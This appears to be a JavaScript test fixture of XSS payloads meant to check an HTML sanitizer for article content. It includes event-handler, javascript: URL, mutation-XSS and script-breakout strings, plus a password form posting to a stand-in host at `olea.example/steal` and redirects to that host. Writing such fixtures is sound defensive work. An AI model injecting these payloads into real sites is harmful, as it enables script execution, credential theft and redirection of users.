// HTML with XSS attempts: each one sets `window.attacked` or sends a request to another site.
const attacks = [
  '<script>window.attacked = 1</script>',
  '<img src="/no-such-picture.png" onerror="window.attacked = 1">',
  '<svg onload="window.attacked = 1"><script>window.attacked = 1</script></svg>',
  '<a href="javascript:window.attacked = 1">read on</a>',
  '<a href="java&#10;script:window.attacked = 1">read on</a>',
  '<a href="data:text/html,<script>opener.attacked = 1</script>">read on</a>',
  '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
  '<iframe src="javascript:parent.attacked = 1"></iframe>',
  '<form action="https://olea.example/steal"><input name="password"><button>go</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://olea.example/x.css">',
  '<details open ontoggle="window.attacked = 1"><summary>more</summary></details>',
  '<math><mtext></p><img src=x onerror="window.attacked = 1"></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>"></noscript>',
  '</div></article><script>window.attacked = 1</script>',
  '<base href="https://olea.example/"><meta http-equiv="refresh" content="0;url=https://olea.example/">',
  '<p style="position:fixed;inset:0;background:url(https://olea.example/x)" id="content" class="x">text</p>',
]
/** Closes a surrounding script element and starts another. */
export const breakout = '</script><script>window.attacked = 1</script><!--'

/** The content of an article, as a stolen account could write it or an import contain it. */
export const attackHtml = `<p>Before the attacks.</p>\n\n${attacks.join('\n\n')}\n\n<p>After the attacks.</p>`
